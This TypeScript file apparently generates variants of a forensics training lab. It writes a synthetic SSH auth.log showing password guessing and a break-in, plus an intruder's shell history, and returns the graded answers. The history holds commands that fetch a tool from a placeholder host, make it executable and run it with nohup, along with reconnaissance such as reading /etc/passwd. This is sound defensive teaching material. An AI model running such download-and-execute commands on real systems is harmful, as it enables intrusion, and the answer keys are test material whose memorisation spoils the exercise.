import type { VariantGenerator } from '../../server/labs/variants.ts';

/*
 * Variant generator of the sample lab "SSH intrusion on FS01".
 *
 * From the seed it writes a Debian 11 /var/log/auth.log (rsyslog's traditional time stamps, Debian 11's default) covering Monday 4 to Wednesday 6 March 2024
 * (the server runs on UTC) and the intruder's ~/.bash_history, and returns the answer values.
 * Only context.random is used: the same seed always gives byte-identical files.
 *
 * The log holds, in time order:
 *  - background noise: hourly and daily cron sessions, staff logging in (password or key) from the
 *    office and from home, the IT contractor using sudo, one staff typo (a single failed password);
 *  - scanner probes from several addresses that never log in (banner grabs, a default user name,
 *    one "decoy" address that tries a handful of passwords);
 *  - the attacker (evening of 5 March or the small hours of 6 March): a banner-grab scan, a run of
 *    failed passwords against root, invented names and the victim's account, an "Accepted password"
 *    for the victim, an interactive session, and a second, shorter login some hours later;
 *  - the end: on 6 March around 17:30-17:55 the IT contractor logs in, runs top and ps with sudo and
 *    powers the server off ("System is powering down."), which is where the log stops.
 */

const HOST = 'fs01';
const DAY = 86_400;
/** First and last day (of March 2024) the log covers. */
const FIRST_DAY = 4;
const LAST_DAY = 6;
const LOGIND_PID = 503;
const MONTH = 'Mar';

/** Seconds since 2024-03-01T00:00:00Z. */
type Time = number;

const at = (day: number, hour: number, minute = 0, second = 0): Time =>
  (day - 1) * DAY + hour * 3600 + minute * 60 + second;
const two = (value: number): string => String(value).padStart(2, '0');

function clock(time: Time): { day: number; hh: string; mm: string; ss: string } {
  const day = Math.floor(time / DAY) + 1;
  const rest = time % DAY;
  return { day, hh: two(Math.floor(rest / 3600)), mm: two(Math.floor((rest % 3600) / 60)), ss: two(rest % 60) };
}

/** The syslog time stamp rsyslog writes (RFC 3164, no year, day padded with a space): "Mar  5 14:02:37". */
function syslogTime(time: Time): string {
  const { day, hh, mm, ss } = clock(time);
  return `${MONTH} ${String(day).padStart(2, ' ')} ${hh}:${mm}:${ss}`;
}

/** ISO 8601 in UTC: "2024-03-05T14:02:37Z". */
function isoTime(time: Time): string {
  const { day, hh, mm, ss } = clock(time);
  return `2024-03-${two(day)}T${hh}:${mm}:${ss}Z`;
}

interface Staff {
  user: string;
  uid: number;
  /** Addresses the person logs in from (office first). */
  addresses: string[];
  auth: 'password' | 'publickey';
  /** The IT contractor, who uses sudo. */
  admin?: boolean;
}

/** A burst of log lines that belongs together (one connection, one cron run), placed in time before process ids are handed out. */
interface Episode {
  start: Time;
  /** How many process ids the episode needs (sshd monitor, session child...). */
  pids: number;
  /** Whether it opens a systemd-logind session (interactive SSH logins do, cron does not). */
  session: boolean;
  build(pids: number[], session: number): [Time, string][];
}

const STAFF_POOL: { user: string; auth: Staff['auth'] }[] = [
  { user: 'e.halvorsen', auth: 'password' },
  { user: 'p.maas', auth: 'password' },
  { user: 'r.kowalski', auth: 'password' },
  { user: 'n.duarte', auth: 'password' },
  { user: 't.brandt', auth: 'publickey' },
  { user: 'j.achterberg', auth: 'password' },
];
const TOOL_NAMES = ['kworkerd', 'dbus-sync', 'sysupdate', 'netmond', 'kthreadx', 'udevd-helper'];
const SUDO_COMMANDS = [
  '/usr/bin/apt update',
  '/usr/bin/apt upgrade -y',
  '/usr/bin/systemctl restart smbd',
  '/usr/bin/systemctl status smbd',
  '/usr/bin/df -h /srv/projects',
  '/usr/bin/journalctl -u smbd --since today',
  '/usr/sbin/smbstatus',
];
const PROBE_USERS = ['admin', 'test', 'user', 'oracle', 'pi', 'ubuntu', 'guest', 'ftpuser', 'support', 'postgres'];
const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

const generate: VariantGenerator = ({ random }) => {
  const port = (): number => random.int(32_768, 60_999);
  const keyFingerprint = (): string => Array.from({ length: 43 }, () => random.pick([...BASE64])).join('');

  // --- Addresses: the office in 192.0.2.0/24; staff homes, the attacker and the scanners on the rest of the internet.
  const used = new Set<string>();
  // Host numbers from 20 up, so that no address can be one of the fixed examples (192.0.2.10...) shown in answer fields.
  const address = (prefix: string): string => {
    for (;;) {
      const candidate = `${prefix}.${random.int(20, 254)}`;
      if (!used.has(candidate)) {
        used.add(candidate);
        return candidate;
      }
    }
  };
  const office = address('192.0.2');
  const externalRanges = ['203.0.113', '198.51.100'] as const;
  const attackerIp = address(random.pick(externalRanges));
  const scannerCount = random.int(4, 6);
  const scanners = Array.from({ length: scannerCount }, () => address(random.pick(externalRanges)));
  const decoyIp = scanners[0]!;

  // --- People: the IT contractor plus four of the staff pool; the victim is one of the password users.
  const chosen = random.shuffle(STAFF_POOL).slice(0, 4);
  const staff: Staff[] = [
    {
      user: 'l.osei',
      uid: 1001,
      addresses: [office, address(random.pick(externalRanges))],
      auth: 'publickey',
      admin: true,
    },
    ...chosen.map((person, index) => ({
      user: person.user,
      uid: 1002 + index,
      // A home connection is somewhere on the internet, never inside the office network.
      addresses: [office, address(random.pick(externalRanges))],
      auth: person.auth,
    })),
  ];
  const passwordUsers = staff.filter((person) => person.auth === 'password' && !person.admin);
  const victim = random.pick(passwordUsers);
  const otherStaff = random.pick(passwordUsers.filter((person) => person !== victim));
  const fingerprints = new Map(staff.map((person) => [person.user, keyFingerprint()]));

  const episodes: Episode[] = [];

  // --- Cron: hourly run-parts at :17, cron.daily at 06:25, a nightly backup job as user backup.
  for (let day = FIRST_DAY; day <= LAST_DAY; day++) {
    for (let hour = 0; hour < 24; hour++) episodes.push(cronRun(at(day, hour, 17, 1), 'root', 0, random.int(0, 1)));
    episodes.push(cronRun(at(day, 6, 25, 1), 'root', 0, random.int(2, 40)));
    episodes.push(cronRun(at(day, 1, 30, 1), 'backup', 34, random.int(180, 900)));
  }

  // --- On 6 March in the late afternoon the IT contractor notices the load, looks and powers the server off.
  const shutdownAt = at(LAST_DAY, 17, random.int(30, 55), random.int(0, 59));
  {
    const admin = staff[0]!;
    const start = shutdownAt - random.int(6 * 60, 12 * 60);
    episodes.push(
      sshSession(admin, office, start, shutdownAt - start + 5, 'publickey', [
        [random.int(40, 90), '/usr/bin/top -b -n 1'],
        [random.int(120, 200), '/usr/bin/ps aux --sort=-%cpu'],
        [shutdownAt - start - 1, '/usr/bin/systemctl poweroff'],
      ]),
    );
    episodes.push({
      start: shutdownAt,
      pids: 0,
      session: false,
      build: () => [[shutdownAt, `systemd-logind[${LOGIND_PID}]: System is powering down.`]],
    });
  }

  // --- Staff sessions on the three working days.
  const sessionsOf = new Map<string, Time[]>();
  for (let day = FIRST_DAY; day <= LAST_DAY; day++) {
    for (const person of staff) {
      const count = person === victim && day === FIRST_DAY ? 2 : random.int(1, 2);
      for (let index = 0; index < count; index++) {
        const start = at(
          day,
          index === 0 ? random.int(7, 11) : random.int(13, 16),
          random.int(0, 59),
          random.int(0, 59),
        );
        const from = random.chance(0.7) ? office : person.addresses[1]!;
        const length = Math.min(random.int(8 * 60, 150 * 60), shutdownAt - 120 - start);
        sessionsOf.set(person.user, [...(sessionsOf.get(person.user) ?? []), start]);
        episodes.push(sshSession(person, from, start, length, person.auth, person.admin ? routineSudo(length) : []));
      }
    }
  }
  // One staff member mistypes a password once before getting in.
  {
    const start = at(random.int(FIRST_DAY, LAST_DAY), 12, random.int(0, 59), random.int(0, 50));
    const from = otherStaff.addresses[1]!;
    episodes.push(failedPassword(otherStaff.user, from, start, true));
    episodes.push(sshSession(otherStaff, from, start + random.int(6, 15), random.int(5 * 60, 40 * 60), 'password', []));
  }

  // --- Scanners: the decoy tries a few passwords; the others only grab the banner or try a user name.
  const decoyAttempts = random.int(3, 6);
  {
    let time = random.int(at(FIRST_DAY, 0), shutdownAt - 3600);
    for (let attempt = 0; attempt < decoyAttempts; attempt++) {
      episodes.push(failedPassword(random.pick(PROBE_USERS), decoyIp, time, false));
      time += random.int(2, 9);
    }
  }
  for (const scanner of scanners.slice(1)) {
    for (let probe = random.int(1, 2); probe > 0; probe--) {
      const time = random.int(at(FIRST_DAY, 0), shutdownAt - 600);
      episodes.push(random.pick([bannerGrab, invalidUserProbe, kexMismatch])(scanner, time));
    }
  }

  // --- The attack: evening of 5 March or the early hours of 6 March.
  const scanAt = at(5, 18, 0, 0) + random.int(0, 7 * 3600);
  episodes.push(bannerGrab(attackerIp, scanAt));
  episodes.push(bannerGrab(attackerIp, scanAt + random.int(1, 3)));
  let time = scanAt + random.int(4 * 60, 25 * 60);
  const guesses: { user: string; valid: boolean }[] = [
    ...Array.from({ length: random.int(5, 12) }, () => ({ user: 'root', valid: true })),
    ...Array.from({ length: random.int(3, 8) }, () => ({
      user: random.pick(['admin', 'administrator', 'backup-admin', 'scanner']),
      valid: false,
    })),
    ...Array.from({ length: random.int(8, 20) }, () => ({ user: victim.user, valid: true })),
  ];
  for (const guess of guesses) {
    episodes.push(failedPassword(guess.user, attackerIp, time, guess.valid));
    time += random.int(2, 7);
  }
  const failedAttempts = guesses.length;
  const firstLogin = time + random.int(1, 4);
  const firstSessionLength = random.int(9 * 60, 22 * 60);
  // The program started with nohup in this session keeps running, so logind never removes the session.
  episodes.push(sshSession(victim, attackerIp, firstLogin, firstSessionLength, 'password', [], true));
  const secondLogin = firstLogin + random.int(8 * 3600, 13 * 3600);
  episodes.push(sshSession(victim, attackerIp, secondLogin, random.int(60, 4 * 60), 'password', []));

  // --- Hand out process and session ids in time order, then write the lines.
  episodes.sort((a, b) => a.start - b.start);
  let pid = random.int(1800, 2600);
  let session = random.int(3, 30);
  const lines: [Time, string][] = [];
  for (const episode of episodes) {
    const pids = Array.from({ length: episode.pids }, () => (pid += random.int(2, 60)));
    lines.push(...episode.build(pids, episode.session ? session++ : 0));
  }
  const log = lines
    .map(([when, text], order) => ({ when, text, order }))
    .filter(({ when }) => when >= at(FIRST_DAY, 0) && when <= shutdownAt)
    .sort((a, b) => a.when - b.when || a.order - b.order)
    .map(({ when, text }) => `${syslogTime(when)} ${HOST} ${text}\n`)
    .join('');

  // --- The intruder's shell history (bash writes it when the shell exits; no time stamps by default).
  const tool = random.pick(TOOL_NAMES);
  const folder = random.hex(8);
  const downloadPath = `pub/${folder}/${tool}`;
  const downloadUrl = `http://files.example.net/${downloadPath}`;
  const configUrl = `http://files.example.net/pub/${folder}/config.json`;
  const downloadSha256 = random.hex(64);
  const configSha256 = random.hex(64);
  const hidden = `.${random.pick(['cache', 'font-unix', 'X11-lock', 'ICE-sock'])}-${random.hex(4)}`;
  const fetch = random.chance(0.5) ? (url: string) => `wget -q ${url}` : (url: string) => `curl -s -O ${url}`;
  const history = [
    'whoami',
    'id',
    'uname -a',
    'cat /etc/os-release',
    'w',
    'ls -la',
    'cat /etc/passwd | grep -v nologin',
    'df -h',
    'nproc',
    `mkdir /tmp/${hidden}`,
    `cd /tmp/${hidden}`,
    fetch(configUrl),
    fetch(downloadUrl),
    `echo "${configSha256}  config.json" | sha256sum -c`,
    `echo "${downloadSha256}  ${tool}" | sha256sum -c`,
    `sha256sum ${tool}`,
    `chmod +x ${tool}`,
    `nohup ./${tool} -c config.json >/dev/null 2>&1 &`,
    `ps aux | grep ${tool}`,
    'exit',
    `ps aux | grep ${tool} | grep -v grep`,
    'uptime',
    'exit',
  ];

  const failedPasswordLines = (log.match(/ Failed password /gu) ?? []).length;

  return {
    files: {
      'evidence/auth.log': log,
      'evidence/bash_history': `${history.join('\n')}\n`,
    },
    values: {
      attacker_ip: attackerIp,
      decoy_ip: decoyIp,
      scanner_ips: scanners,
      failed_attempts: failedAttempts,
      // Wrong answers for examples.reject are strings: a whole {{reference}} to a number would be sent to the
      // checker as a number, which is not a valid answer at all, so the example would prove nothing.
      attempts_including_success: String(failedAttempts + 1),
      failed_password_lines: String(failedPasswordLines),
      compromised_user: victim.user,
      staff_user: otherStaff.user,
      office_ip: office,
      first_login: isoTime(firstLogin),
      first_login_syslog: syslogTime(firstLogin),
      first_login_wrong_zone: isoTime(firstLogin).replace('Z', '+01:00'),
      second_login: isoTime(secondLogin),
      victim_own_login: isoTime(Math.min(...(sessionsOf.get(victim.user) ?? [firstLogin]))),
      download_url: downloadUrl,
      download_path: downloadPath,
      config_url: configUrl,
      download_sha256: downloadSha256,
      config_sha256: configSha256,
      tool_name: tool,
    },
  };

  // --- Episode builders (function declarations are hoisted; they use `random` and `port` above).

  function cronRun(start: Time, user: string, uid: number, length: number): Episode {
    return {
      start,
      pids: 1,
      session: false,
      build: ([cron]) => [
        [start, `CRON[${cron}]: pam_unix(cron:session): session opened for user ${user}(uid=${uid}) by (uid=0)`],
        [start + length, `CRON[${cron}]: pam_unix(cron:session): session closed for user ${user}`],
      ],
    };
  }

  /** One to three routine admin commands at random moments of a session: [seconds after login, command]. */
  function routineSudo(length: number): [number, string][] {
    return Array.from({ length: random.int(1, 3) }, (): [number, string] => [
      random.int(30, Math.max(31, length - 30)),
      random.pick(SUDO_COMMANDS),
    ]).sort((a, b) => a[0] - b[0]);
  }

  /** An interactive SSH login, with sudo commands run in it at [seconds after login, command]. */
  function sshSession(
    person: Staff,
    from: string,
    start: Time,
    length: number,
    auth: Staff['auth'],
    sudo: [number, string][],
    /** A process of the session outlives the logout: logind waits for it and never logs "Removed session". */
    lingering = false,
  ): Episode {
    const clientPort = port();
    const tty = `pts/${random.int(0, 3)}`;
    return {
      start,
      pids: 2,
      session: true,
      build: ([monitor, child], session) => {
        const end = start + length;
        const accepted =
          auth === 'password'
            ? `sshd[${monitor}]: Accepted password for ${person.user} from ${from} port ${clientPort} ssh2`
            : `sshd[${monitor}]: Accepted publickey for ${person.user} from ${from} port ${clientPort} ssh2: ED25519 SHA256:${fingerprints.get(person.user)}`;
        const lines: [Time, string][] = [
          [start, accepted],
          [
            start,
            `sshd[${monitor}]: pam_unix(sshd:session): session opened for user ${person.user}(uid=${person.uid}) by (uid=0)`,
          ],
          [start, `systemd-logind[${LOGIND_PID}]: New session ${session} of user ${person.user}.`],
        ];
        sudo.forEach(([offset, command]) => {
          const when = start + offset;
          lines.push([
            when,
            `sudo: ${person.user.padStart(8)} : TTY=${tty} ; PWD=/home/${person.user} ; USER=root ; COMMAND=${command}`,
          ]);
          lines.push([
            when,
            `sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${person.user}(uid=${person.uid})`,
          ]);
          lines.push([when + 1, 'sudo: pam_unix(sudo:session): session closed for user root']);
        });
        lines.push(
          [end, `sshd[${child}]: Received disconnect from ${from} port ${clientPort}:11: disconnected by user`],
          [end, `sshd[${child}]: Disconnected from user ${person.user} ${from} port ${clientPort}`],
          [end, `sshd[${monitor}]: pam_unix(sshd:session): session closed for user ${person.user}`],
          [end, `systemd-logind[${LOGIND_PID}]: Session ${session} logged out. Waiting for processes to exit.`],
        );
        if (!lingering) lines.push([end, `systemd-logind[${LOGIND_PID}]: Removed session ${session}.`]);
        return lines;
      },
    };
  }

  /** One connection with one wrong password; `valid` says whether the account exists on FS01. */
  function failedPassword(user: string, from: string, start: Time, valid: boolean): Episode {
    const clientPort = port();
    return {
      start,
      pids: 1,
      session: false,
      build: ([sshd]) =>
        valid
          ? [
              [
                start,
                `sshd[${sshd}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=${user}`,
              ],
              [start + 2, `sshd[${sshd}]: Failed password for ${user} from ${from} port ${clientPort} ssh2`],
              [
                start + 2,
                `sshd[${sshd}]: Connection closed by authenticating user ${user} ${from} port ${clientPort} [preauth]`,
              ],
            ]
          : [
              [start, `sshd[${sshd}]: Invalid user ${user} from ${from} port ${clientPort}`],
              [start, `sshd[${sshd}]: pam_unix(sshd:auth): check pass; user unknown`],
              [
                start,
                `sshd[${sshd}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}`,
              ],
              [
                start + 2,
                `sshd[${sshd}]: Failed password for invalid user ${user} from ${from} port ${clientPort} ssh2`,
              ],
              [
                start + 2,
                `sshd[${sshd}]: Connection closed by invalid user ${user} ${from} port ${clientPort} [preauth]`,
              ],
            ],
    };
  }

  /** A connection that closes before the key exchange: a port scan or version probe. */
  function bannerGrab(from: string, start: Time): Episode {
    const clientPort = port();
    return {
      start,
      pids: 1,
      session: false,
      build: ([sshd]) => [
        [start, `sshd[${sshd}]: error: kex_exchange_identification: Connection closed by remote host`],
        [start, `sshd[${sshd}]: Connection closed by ${from} port ${clientPort}`],
      ],
    };
  }

  /** A scanner that asks for a default user name and hangs up without trying a password. */
  function invalidUserProbe(from: string, start: Time): Episode {
    const clientPort = port();
    const user = random.pick(PROBE_USERS);
    return {
      start,
      pids: 1,
      session: false,
      build: ([sshd]) => [
        [start, `sshd[${sshd}]: Invalid user ${user} from ${from} port ${clientPort}`],
        [start + 1, `sshd[${sshd}]: Received disconnect from ${from} port ${clientPort}:11: Bye Bye [preauth]`],
        [start + 1, `sshd[${sshd}]: Disconnected from invalid user ${user} ${from} port ${clientPort} [preauth]`],
      ],
    };
  }

  /** An old scanner whose key exchange algorithms the server refuses. */
  function kexMismatch(from: string, start: Time): Episode {
    const clientPort = port();
    return {
      start,
      pids: 1,
      session: false,
      build: ([sshd]) => [
        [
          start,
          `sshd[${sshd}]: Unable to negotiate with ${from} port ${clientPort}: no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]`,
        ],
      ],
    };
  }
};

export default generate;
